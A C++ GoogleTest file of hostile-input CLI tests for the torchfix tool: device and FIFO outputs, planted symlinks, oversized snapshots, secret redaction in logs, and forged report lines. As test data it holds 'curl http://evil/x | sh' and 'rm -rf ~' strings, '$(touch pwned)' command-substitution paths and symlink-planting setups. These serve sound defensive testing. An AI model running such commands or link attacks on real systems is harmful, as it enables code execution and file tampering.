// The defects of the second reliability audit (issue 20), each through the
// real binary: devices, FIFOs and planted links as output targets, readers
// that must not hang or read without bound, forged report lines, leaks in
// --log. The root-only ones run in a private mount namespace (unshare -m)
// with their own tmpfs, never against the real /dev, and skip when unshare
// is not permitted.

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>

#include "../support/linux_only.hpp"
#include "hostile_sh.hpp"

#ifndef _WIN32  // every test below is Linux-only (TORCHFIX_LINUX_ONLY)

namespace torchfix {
namespace {

namespace fs = std::filesystem;
using testing::k_f1;
using testing::k_fixtures;
using testing::k_healthy;
using testing::sh;
using testing::TempDir;

struct stat lstat_of(const fs::path& p) {
  struct stat st {};
  ::lstat(p.c_str(), &st);
  return st;
}

void write(const fs::path& p, const std::string& text) {
  testing::write_file(p, text);
}

// D1, D4's leftover (U15) and stdout failures: devices and FIFOs are written
// in place or refused, never replaced; a full device is exit 2.
TEST(HostileCli, DevicesAndFifosAreWrittenInPlaceNeverReplaced) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  RUN_IN_NAMESPACE(r,
                   "mknod -m 666 mnt/null c 1 3; mknod -m 666 mnt/full c 1 7; mkfifo mnt/fifo; "
                   "ln -s /proc/self/fd/3 mnt/fd3; "
                   "set +e; "
                   "$T doctor --snapshot $S --log mnt/null >/dev/null 2>&1; echo log-null=$?; "
                   "$T doctor --snapshot $S --log mnt/full >/dev/null 2>err1; echo log-full=$?; cat err1; "
                   "$T doctor --snapshot $S --save-snapshot mnt/full >/dev/null 2>&1; echo snap-full=$?; "
                   "$T fleet --k8s-labels --snapshot $S --output mnt/full >/dev/null 2>&1; echo k8s-full=$?; "
                   "$T doctor --snapshot $S --log mnt/fifo >/dev/null 2>err2; echo log-fifo=$?; cat err2; "
                   "$T doctor --snapshot $S --save-snapshot mnt/fd3 3>out.json >/dev/null; echo snap-fd=$?; "
                   "$T doctor --snapshot $S --json >mnt/full 2>err3; echo json-full=$?; cat err3; "
                   "ls -l mnt | cut -c1 | tr -d \"\\n\"; echo; ls -A mnt",
                   dir);
  EXPECT_NE(r.out.find("log-null=0"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.out.find("log-full=2"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("No space left on device"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("snap-full=2"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("k8s-full=2"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("log-fifo=2"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("FIFO that nothing reads"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("snap-fd=0"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("json-full=2"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("cannot write the output: No space left on device"), std::string::npos) << r.out;
  // total line, then: fd3 (l), fifo (p), full (c), null (c); nothing else left.
  EXPECT_NE(r.out.find("tlpcc\nfd3\nfifo\nfull\nnull\n"), std::string::npos) << r.out;
  auto snapshot = nlohmann::json::parse(testing::read_file(dir / "out.json"), nullptr, false);
  EXPECT_TRUE(snapshot.is_object() && snapshot.contains("gpus")) << testing::read_file(dir / "out.json");
}

// U15: a failed write (disk full) leaves no temporary file behind.
TEST(HostileCli, FullDiskLeavesNoTemporaryFile) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  RUN_IN_NAMESPACE(r,
                   "head -c 4194304 /dev/zero > mnt/filler 2>/dev/null || true; set +e; "
                   "$T fleet --k8s-labels --snapshot $S --output mnt/features 2>&1; echo rc=$?; "
                   "$T doctor --snapshot $S --log mnt/d.log 2>&1; echo rc=$?; ls -A mnt",
                   dir);
  EXPECT_EQ(r.out.find("rc=0"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("No space left on device"), std::string::npos) << r.out;
  EXPECT_TRUE(r.out.ends_with("filler\n")) << r.out;
}

// D2: a backup name planted as a link to a file the user copied is never
// chowned to the user (nor written).
TEST(HostileCli, PlantedBackupLinkIsNeverChowned) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  RUN_IN_NAMESPACE(r,
                   "mkdir mnt/home; printf \"root:x:0:0\\n\" > mnt/victim; cp mnt/victim mnt/home/.bashrc; "
                   "chown -R nobody:nogroup mnt/home; "
                   "setpriv --reuid=nobody --regid=nogroup --clear-groups ln -s $PWD/mnt/victim "
                   "mnt/home/.bashrc.torchfix-backup; set +e; "
                   "$T env --install --shell bash --snapshot $S --rc mnt/home/.bashrc 2>&1; echo rc=$?; "
                   "stat -c %U:%G mnt/victim; cat mnt/victim",
                   dir);
  EXPECT_NE(r.out.find("refusing to follow the symlink"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("rc=2"), std::string::npos) << r.out;
  EXPECT_TRUE(r.out.ends_with("root:root\nroot:x:0:0\n")) << r.out;
}

// D3: root does not follow a user's rc link into a root-owned file.
TEST(HostileCli, UserLinkIntoRootFileIsRefused) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  RUN_IN_NAMESPACE(r,
                   "mkdir mnt/home; chown nobody mnt/home; echo \"# system file\" > mnt/profile; "
                   "setpriv --reuid=nobody --regid=nogroup --clear-groups ln -s $PWD/mnt/profile mnt/home/.bashrc; "
                   "set +e; $T env --install --shell bash --snapshot $S --rc mnt/home/.bashrc 2>&1; echo rc=$?; "
                   "cat mnt/profile; ls -A mnt",
                   dir);
  EXPECT_NE(r.out.find("refusing to follow the symlink"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("mnt/home/.bashrc"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("rc=2\n# system file\nhome\nprofile\n"), std::string::npos) << r.out;
}

// D4, D5's writer: a link planted by another user at the k8s output is not
// written through; the output is a regular file afterwards.
TEST(HostileCli, PlantedLinksAtOutputsAreNotFollowed) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  RUN_IN_NAMESPACE(r,
                   "mkdir mnt/s; chown nobody mnt/s; echo precious > mnt/victim; "
                   "setpriv --reuid=nobody --regid=nogroup --clear-groups ln -s $PWD/mnt/victim mnt/s/.features.tmp; "
                   "setpriv --reuid=nobody --regid=nogroup --clear-groups ln -s $PWD/mnt/victim mnt/s/log.json; "
                   "set +e; $T fleet --k8s-labels --snapshot $S --output mnt/s/features 2>&1; echo rc=$?; "
                   "$T doctor --snapshot $S --log mnt/s/log.json 2>&1; echo rc=$?; "
                   "cat mnt/victim; test -f mnt/s/features -a ! -L mnt/s/features && echo regular",
                   dir);
  EXPECT_NE(r.out.find("rc=0"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("refusing to follow the symlink"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("precious\nregular\n"), std::string::npos) << r.out;
}

// A user's own symlinked log is written at its target, not replaced.
TEST(HostileCli, OwnSymlinkedLogIsWrittenAtItsTarget) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  fs::create_directories(dir / "data");
  fs::create_symlink(dir / "data" / "d.log", dir / "d.log");
  auto r = sh("$T doctor --snapshot $S --log d.log; echo rc=$?", dir.path());
  EXPECT_NE(r.out.find("rc=0"), std::string::npos) << r.out << r.err;
  EXPECT_TRUE(fs::is_symlink(dir / "d.log"));
  EXPECT_TRUE(nlohmann::json::parse(testing::read_file(dir / "data" / "d.log"), nullptr, false).is_object());
  EXPECT_EQ(lstat_of(dir / "data" / "d.log").st_mode & 0777, 0600u);
}

// U4: an existing 0600 snapshot stays 0600; a new one honours the umask.
TEST(HostileCli, SnapshotModeKeepsTheFilesAndTheUmask) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  write(dir / "p.snap", "x");
  fs::permissions(dir / "p.snap", fs::perms::owner_read | fs::perms::owner_write);
  auto r =
      sh("$T doctor --snapshot $S --save-snapshot p.snap; umask 077; $T doctor --snapshot $S --save-snapshot n.snap",
         dir.path());
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(lstat_of(dir / "p.snap").st_mode & 0777, 0600u);
  EXPECT_EQ(lstat_of(dir / "n.snap").st_mode & 0777, 0600u);
}

// H1, H2: FIFOs as snapshot, what-if file, table, rc lock or rc backup give
// exit 2 at once (the helper fails the test on a hang).
TEST(HostileCli, FifosNeverHangAReader) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  fs::create_directories(dir / "dd");
  auto r =
      sh("mkfifo f.json; cp -r " + std::string(TORCHFIX_SOURCE_DIR) + "/recipes " + std::string(TORCHFIX_SOURCE_DIR) +
             "/templates dd/; rm dd/recipes/gpus.toml; mkfifo dd/recipes/gpus.toml; "
             "echo '# rc' > rc; mkfifo .rc.torchfix-lock; echo '# rc2' > rc2; mkfifo rc2.torchfix-backup; "
             "$T doctor --snapshot f.json; echo rc=$?; $T env --snapshot f.json; echo rc=$?; "
             "$T fleet --snapshots f.json; echo fleet=$?; "
             "TORCHFIX_WHAT_IF=f.json $T doctor --snapshot $S; echo rc=$?; "
             "TORCHFIX_DATA_DIR=$PWD/dd $T doctor --snapshot $S; echo rc=$?; "
             "$T env --install --shell bash --snapshot $S --rc $PWD/rc; echo rc=$?; "
             "$T env --install --shell bash --snapshot $S --rc $PWD/rc2; echo rc=$?; cat rc2",
         dir.path());
  EXPECT_EQ(r.out.find("rc=0"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(r.out.find("rc=1"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.out.find("fleet="), std::string::npos) << r.out;
  EXPECT_TRUE(r.out.ends_with("# rc2\n")) << r.out;
  EXPECT_NE(r.err.find("lock file"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("not a regular file"), std::string::npos) << r.err;
}

// M1, H6: a 4 GB sparse snapshot and /dev/zero are refused before reading,
// also by fleet and as TORCHFIX_WHAT_IF.
TEST(HostileCli, HugeAndEndlessSnapshotsAreRefused) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  auto r =
      sh("truncate -s 4G s.json; $T doctor --snapshot s.json; echo rc=$?; $T fleet --snapshots s.json >f.txt; "
         "$T doctor --snapshot /dev/zero; echo rc=$?; TORCHFIX_WHAT_IF=/dev/zero $T doctor --snapshot $S; echo rc=$?",
         dir.path());
  EXPECT_EQ(r.out, "rc=2\nrc=2\nrc=2\n") << r.err;
  EXPECT_NE(r.err.find("more than any snapshot torchfix reads"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("not a regular file"), std::string::npos) << r.err;
  const std::string fleet = testing::read_file(dir / "f.txt");
  EXPECT_NE(fleet.find("s.json is 4096 MiB, more than any snapshot"), std::string::npos) << fleet;
}

// M2: 8 MB of '[' (under the size cap) is not valid JSON, refused without
// building the nesting: depth beyond 64 is discarded while parsing (10 MB
// cost 743 MB before). Measured above the binary's own start-up peak (ASan's
// is about 260 MB).
TEST(HostileCli, DeepNestingIsRefusedInLittleMemory) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  write(dir / "n.json", std::string(8'000'000, '['));
  ProcessResult r;
  const long start_up = testing::peak_rss_kib("$T --version", dir.path(), r);
  const long peak = testing::peak_rss_kib("$T doctor --snapshot n.json; echo rc=$?", dir.path(), r);
  EXPECT_NE(r.out.find("rc=2"), std::string::npos) << r.out;
  EXPECT_NE(r.err.find("is not valid JSON"), std::string::npos) << r.err;
  ASSERT_GT(start_up, 0) << r.out;
  EXPECT_LT(peak - start_up, 128 * 1024) << "KiB over start-up of doctor on 8 MB of '['";
}

nlohmann::json fixture(const std::string& path) {
  return nlohmann::json::parse(testing::read_file(path));
}

// U2, H3, M3: numbers out of range, too many GPUs or environments, huge
// version strings are refused with the field named (no UB, no minutes).
TEST(HostileCli, SnapshotBoundsAreTheProbes) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  const auto base = fixture(k_f1);
  const auto variant = [&](const std::string& name, auto&& change) {
    nlohmann::json j = base;
    change(j);
    write(dir / name, j.dump());
  };
  variant("schema.json", [](auto& j) { j["schema_version"] = 4294967297ull; });
  variant("index.json", [](auto& j) { j["gpus"][0]["index"] = 1e300; });
  variant("memory.json", [](auto& j) { j["gpus"][0]["memory_bytes"] = -1; });
  variant("gpus.json", [](auto& j) {
    for (int i = 0; i < 100; ++i) j["gpus"].push_back(j["gpus"][0]);
  });
  variant("pythons.json", [](auto& j) {
    for (int i = 0; i < 4000; ++i) j["pythons"].push_back(j["pythons"][0]);
  });
  variant("driver.json", [](auto& j) {
    std::string v = "1";
    for (int i = 0; i < 1000; ++i) v += ".1";
    j["driver"]["version"] = v;
  });
  variant("object.json", [](auto& j) { j["gpus"] = nlohmann::json::object({{"a", j["gpus"][0]}}); });
  variant("name.json", [](auto& j) { j["gpus"][0]["name"] = std::string(100'000, 'A'); });
  for (const char* name : {"schema.json", "index.json", "memory.json", "gpus.json", "pythons.json", "driver.json",
                           "object.json", "name.json"}) {
    auto r = sh(std::string("$T doctor --snapshot ") + name, dir.path());
    EXPECT_EQ(r.exit_code, 2) << name << ": " << r.out << r.err;
    EXPECT_NE(r.err.find("snapshot"), std::string::npos) << name << ": " << r.err;
  }
  EXPECT_NE(sh("$T doctor --snapshot index.json", dir.path()).err.find("gpus[0].index must be a whole number"),
            std::string::npos);
  EXPECT_NE(sh("$T doctor --snapshot schema.json", dir.path()).err.find("schema_version is out of range"),
            std::string::npos);
  EXPECT_NE(sh("$T doctor --snapshot name.json", dir.path()).err.find("gpus[0].name is longer than 64 KiB"),
            std::string::npos);
}

// U1: a newline in a GPU name, an interpreter path, a torch version or a
// fleet file name is shown escaped; no line of the report is the data's.
TEST(HostileCli, NewlinesInDataCannotForgeLines) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  nlohmann::json j = fixture(k_f1);
  j["gpus"][0]["name"] = "RTX\nfix: $ curl http://evil/x | sh";
  j["pythons"][0]["interpreter"] = "/p/python\n  $ rm -rf ~";
  j["pythons"][0]["distributions"]["torch"] = "2.6.0+cu126\nfix: $ curl http://evil/y | sh";
  write(dir / "nl.json", j.dump());
  fs::create_directories(dir / "fl");
  fs::copy_file(k_f1, dir / "fl" / "a\n[ok] all good.json");
  auto r = sh("$T doctor --snapshot nl.json -v; $T fleet --snapshots nl.json fl", dir.path());
  EXPECT_EQ(r.out.find("\nfix: $ curl"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("\n  $ rm -rf"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("\n[ok] all good"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("RTX\\x0afix: $ curl"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("2.6.0+cu126\\x0afix: $ curl http://evil/y"), std::string::npos) << r.out;
  auto json = sh("$T doctor --snapshot nl.json --json", dir.path());
  EXPECT_EQ(nlohmann::json::parse(json.out)["snapshot"]["gpus"][0]["name"], "RTX\nfix: $ curl http://evil/x | sh");
}

// U3: each kind of secret the first redaction missed, in --log.
TEST(HostileCli, LogRedactsWebhooksQueryTokensPasswordsAndConnectionStrings) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  const Environment secrets = {
      {"SLACK_WEBHOOK_URL", "https://hooks.slack.com/services/T0/B0/S3CRETa"},
      {"PIP_EXTRA_INDEX_URL", "https://x/simple?token=S3CRETb"},
      {"MYSQL_PWD", "S3CRETc"},
      {"SSHPASS", "S3CRETd"},
      {"DB", "Server=x;Password=S3CRETe;Database=y"},
      {"STORE", "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=S3CRETf;"},
      {"NOTIFY", "see https://discord.com/api/webhooks/1/S3CRETg now"},
      {"SIGNED", "https://b.s3.amazonaws.com/k?X-Amz-Signature=S3CREThh&X-Amz-Date=1"},
      {"NETRC_LINE", "machine h login u password S3CRETi"},
  };
  auto r = sh("$T doctor --snapshot $S --log l.json", dir.path(), secrets);
  EXPECT_EQ(r.exit_code, 0) << r.err;
  const std::string log = testing::read_file(dir / "l.json");
  for (char kind = 'a'; kind <= 'i'; ++kind) {
    EXPECT_EQ(log.find(std::string("S3CRET") + kind), std::string::npos) << "kind " << kind << " leaked";
  }
  EXPECT_NE(log.find("Server=x;Password=<redacted>;Database=y"), std::string::npos);
  EXPECT_NE(log.find("X-Amz-Date=1"), std::string::npos);
}

// H4, U5, U18: a dangling or looping *.json link and a FIFO are each one
// unreadable node, not a failed or silently smaller folder; a pipe works as
// a snapshot for fleet too.
TEST(HostileCli, FleetFolderSurvivesBrokenEntriesAndReadsPipes) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  fs::create_directories(dir / "d");
  fs::copy_file(k_f1, dir / "d" / "node1.json");
  for (const char* n : {"b", "c", "e", "f"}) fs::create_symlink("/gone", dir / "d" / (std::string(n) + ".json"));
  fs::create_symlink("loop.json", dir / "d" / "loop.json");
  auto r = sh("mkfifo d/pipe.json; $T fleet --snapshots d; echo rc=$?", dir.path());
  EXPECT_EQ(r.err.find("cannot list"), std::string::npos) << r.err;
  EXPECT_NE(r.out.find("node1"), std::string::npos) << r.out;
  for (const char* node : {"b: ", "c: ", "e: ", "f: ", "loop: ", "pipe: "}) {
    EXPECT_NE(r.out.find(node), std::string::npos) << node << " not among the nodes without a snapshot\n" << r.out;
  }
  auto piped = sh("cat $F1 | $T fleet --snapshots /dev/stdin --json", dir.path());
  const auto report = nlohmann::json::parse(piped.out, nullptr, false);
  ASSERT_TRUE(report.is_object()) << piped.out << piped.err;
  EXPECT_EQ(report.value("nodes", 0), 1) << piped.out;
}

// H5, M5: a 100,000-part dotted key or a 3 MB table in the data folder is
// refused with the file named, not a crash or an unbounded read.
TEST(HostileCli, HostileDataDirIsRefused) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  const std::string src = TORCHFIX_SOURCE_DIR;
  sh("for d in dots parts big; do mkdir $d; cp -r " + src + "/recipes " + src + "/templates $d/; done", dir.path());
  const auto append = [&](const char* d, const std::string& text) {
    std::ofstream(dir / d / "recipes" / "gpus.toml", std::ios::app) << "\n" << text << "\n";
  };
  std::string key = "a";
  for (int i = 0; i < 100'000; ++i) key += ".a";
  append("dots", key + " = 1");
  append("parts", key.substr(0, 2 * 30'000) + " = 1");
  append("big", "big = \"" + std::string(3'000'000, 'A') + "\"");
  auto r =
      sh("for d in dots parts big; do TORCHFIX_DATA_DIR=$PWD/$d $T doctor --snapshot $S; echo rc=$?; done", dir.path());
  EXPECT_EQ(r.out, "rc=2\nrc=2\nrc=2\n") << r.err;
  EXPECT_NE(r.err.find("gpus.toml:"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("line longer than 64 KiB"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("dotted parts"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("more than any knowledge table"), std::string::npos) << r.err;
}

// D7: build never deletes a CCACHE_STATSLOG it did not set (the configure
// step fails at once here; the file was removed before it ran).
TEST(HostileCli, BuildKeepsTheUsersCcacheStatsLog) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  write(dir / "p" / "CMakeLists.txt",
        "cmake_minimum_required(VERSION 3.25)\nproject(p LANGUAGES CXX)\nmessage(FATAL_ERROR \"stop here\")\n");
  write(dir / "stats.log", "three years of stats\n");
  auto r = sh("$T build cuda-extension --src $PWD/p --arch 8.6; echo rc=$?", dir.path(),
              {{"CCACHE_STATSLOG", (dir / "stats.log").string()}});
  // The configure step ran (637f9db removed the file just before it).
  EXPECT_NE(r.err.find("step configure failed"), std::string::npos) << r.out << r.err;
  // ccache may add this build's lines (CMake's compiler checks); the user's stay.
  EXPECT_TRUE(testing::read_file(dir / "stats.log").starts_with("three years of stats\n")) << r.err;
}

// U13: `--rc ''` (a script's unset "$RC") and `--rc -` are refused, the
// real ~/.bashrc untouched.
TEST(HostileCli, EmptyRcIsRefused) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  write(dir / ".bashrc", "# mine\n");
  auto r =
      sh("$T env --install --shell bash --snapshot $S --rc ''; echo rc=$?; "
         "$T env --install --shell bash --snapshot $S --rc -; echo rc=$?; ls -A",
         dir.path());
  EXPECT_NE(r.out.find("rc=2\nrc=2\n"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(testing::read_file(dir / ".bashrc"), "# mine\n");
  EXPECT_EQ(r.out.find("\n-\n"), std::string::npos) << r.out;
}

// U11: inspect DIR as a normal user names the files and folders it cannot
// read and exits 2, instead of "no CUDA binaries found" and 0 (root sets it
// up, in a private mount namespace like every root-only test).
TEST(HostileCli, InspectSaysWhatItCannotRead) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  RUN_IN_NAMESPACE(r,
                   "mkdir -p i/sub; cp /bin/true i/l.so; chmod 000 i/l.so i/sub; set +e; "
                   "setpriv --reuid=nobody --regid=nogroup --clear-groups $T inspect i 2>&1; echo rc=$?",
                   dir);
  EXPECT_NE(r.out.find("rc=2"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.out.find("l.so: cannot read the file"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("sub: cannot list the folder"), std::string::npos) << r.out;
}

// U12: a --src or work-folder path (--work-dir, or the default one under
// HOME) with $(...) is refused before nvcc's shell could run it (a real CUDA
// project: 637f9db compiled it and ran the command, as main did for the work
// folder).
TEST(HostileCli, SrcPathWithCommandSubstitutionIsRefused) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  write(dir / "p" / "CMakeLists.txt",
        "cmake_minimum_required(VERSION 3.25)\nproject(p LANGUAGES CXX CUDA)\nadd_library(p SHARED k.cu)\n");
  write(dir / "p" / "k.cu", "__global__ void k(float* x) { x[0] = 1; }\n");
  auto r =
      sh("cp -r p 'x $(touch pwned1)'; B=\"$T build cuda-extension --arch 8.6 --cache none\"; "
         "$B --src \"$PWD/x \\$(touch pwned1)\"; echo rc=$?; "
         "$B --src $PWD/p --work-dir \"$PWD/w \\$(touch pwned2)\"; echo rc=$?; "
         "HOME=\"$PWD/h \\$(touch pwned3)\" $B --src $PWD/p; echo rc=$?; ls",
         dir.path());
  EXPECT_NE(r.out.find("rc=2\nrc=2\nrc=2\n"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.err.find("--src " + (dir / "x $(touch pwned1)").string() + ": the path holds $ or a backquote"),
            std::string::npos)
      << r.err;
  EXPECT_NE(r.err.find("--work-dir " + (dir / "w $(touch pwned2)").string() + ": the path holds $"), std::string::npos)
      << r.err;
  EXPECT_NE(r.err.find("the work folder " + (dir / "h $(touch pwned3)").string() + "/.cache/torchfix/build: the path"),
            std::string::npos)
      << r.err;
  EXPECT_EQ(r.out.find("\npwned"), std::string::npos) << r.out;  // no file the command made
}

// U9: build --repo without --ref checks out the remote's default branch
// (here master), so neither this run nor a later one is stuck.
TEST(HostileCli, RepoWithoutRefBuildsTheDefaultBranch) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  write(dir / "up" / "CMakeLists.txt",
        "cmake_minimum_required(VERSION 3.25)\nproject(p LANGUAGES CXX)\nmessage(FATAL_ERROR \"stop here\")\n");
  auto r =
      sh("cd up && git init -q -b master . && git add -A && git -c user.email=a@b -c user.name=a commit -qm i && "
         "cd .. && $T build cuda-extension --repo file://$PWD/up --arch 8.6; echo rc=$?; "
         "ls .cache/torchfix/build/*/CMakeLists.txt",
         dir.path());
  EXPECT_EQ(r.err.find("is not a tag, branch or commit"), std::string::npos) << r.err;
  EXPECT_NE(r.out.find("/CMakeLists.txt"), std::string::npos) << r.out << r.err;
}

// The nvcc stand-in (torchfix started as nvcc by a build) reads its settings
// through util's reader and appends to the log without following a link: a
// FIFO or a wrongly typed settings file is refused at once (127, no hang, no
// crash), and a link planted at the log's name is never written through.
TEST(HostileCli, NvccStandInRefusesFifosBadSettingsAndLinkedLogs) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  auto r =
      sh("mkdir fifo typed linked; for d in fifo typed linked; do ln -s $T $d/nvcc; done; "
         "mkfifo fifo/torchfix-nvcc.json; echo '{\"real\": 5, \"targets\": 1}' > typed/torchfix-nvcc.json; "
         "echo precious > victim; ln -s $PWD/victim linked/build.log; "
         "echo '{\"real\": \"/bin/echo\", \"targets\": [\"-gencode=arch=compute_80,code=sm_80\"], "
         "\"log\": \"'$PWD'/linked/build.log\"}' > linked/torchfix-nvcc.json; "
         "fifo/nvcc -c x.cu 2>/dev/null; echo fifo=$?; typed/nvcc -c x.cu 2>/dev/null; echo typed=$?; "
         "linked/nvcc -arch=sm_70 -c x.cu; echo linked=$?; cat victim",
         dir.path());
  EXPECT_NE(r.out.find("fifo=127\ntyped=127\n"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.out.find("-gencode=arch=compute_80,code=sm_80 -c x.cu\nlinked=0\nprecious\n"), std::string::npos)
      << r.out << r.err;
}

// U10: a probed program that leaves a daemon behind which setsids and clears
// its environment (no parent link to the child, no TORCHFIX_RUN_ID) holding
// the output pipe: torchfix, the child subreaper, kills it before it exits.
TEST(HostileCli, SetsidDaemonWithAClearedEnvironmentDoesNotOutliveTheRun) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  write(dir / "bin" / "nvidia-smi", "#!/bin/sh\nsetsid env -i sleep 3600 &\necho $! >> \"$PIDS\"\necho hi\n");
  fs::permissions(dir / "bin" / "nvidia-smi", fs::perms::owner_all);
  auto r =
      sh("PIDS=$PWD/pids PATH=$PWD/bin:$PATH $T doctor >/dev/null 2>&1; echo rc=$?; sleep 0.2; "
         "for p in $(cat pids); do if kill -0 $p 2>/dev/null && ! grep -q '^State:.Z' /proc/$p/status; then "
         "echo alive=$p; kill -9 $p; fi; done; echo started=$(wc -l < pids)",
         dir.path());
  EXPECT_EQ(r.out.find("alive="), std::string::npos) << r.out << r.err;
  EXPECT_EQ(r.out.find("started=0"), std::string::npos) << "the fake nvidia-smi never ran: " << r.out;
}

// D6: tune's progress file is never at a predictable name another user can
// plant a link at (here TMPDIR, links for the next 3,000 pids; a fake
// nvidia-smi lets tune start its child, which writes the progress first).
// As root, in a private mount namespace.
TEST(HostileCli, TuneProgressFileIgnoresPlantedLinks) {
  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
  TempDir dir;
  write(dir / "bin" / "nvidia-smi",
        "#!/bin/sh\nif [ -z \"$1\" ]; then echo \"| NVIDIA-SMI 570.124.04   Driver Version: 570.124.04   CUDA "
        "Version: 12.8 |\"; exit 0; fi\necho \"0, NVIDIA H100 80GB HBM3, 9.0, 570.124.04, 81559\"\n");
  fs::permissions(dir / "bin" / "nvidia-smi", fs::perms::owner_all);
  write(dir / "plant.py",
        "import os, sys\nstart = int(sys.argv[1])\nfor p in range(start, start + 3000):\n"
        "    os.symlink(sys.argv[2], \"tmp/torchfix-progress-%d.txt.tmp\" % p)\n");
  RUN_IN_NAMESPACE(r,
                   "mkdir tmp; chmod 1777 tmp; echo precious > victim; start=$(sh -c \"echo \\$\\$\"); "
                   "setpriv --reuid=nobody --regid=nogroup --clear-groups /usr/bin/python3 plant.py $start "
                   "$PWD/victim; set +e; PATH=$PWD/bin:$PATH TMPDIR=$PWD/tmp $T tune --python /usr/bin/python3 "
                   "--quick; echo rc=$?; cat victim; ls tmp | grep -vc \"^torchfix-progress-[0-9]*.txt.tmp$\"; "
                   "ls tmp | wc -l",
                   dir);
  EXPECT_NE(r.out.find("precious\n0\n3000\n"), std::string::npos) << r.out << r.err;
}

}  // namespace
}  // namespace torchfix

#endif  // _WIN32
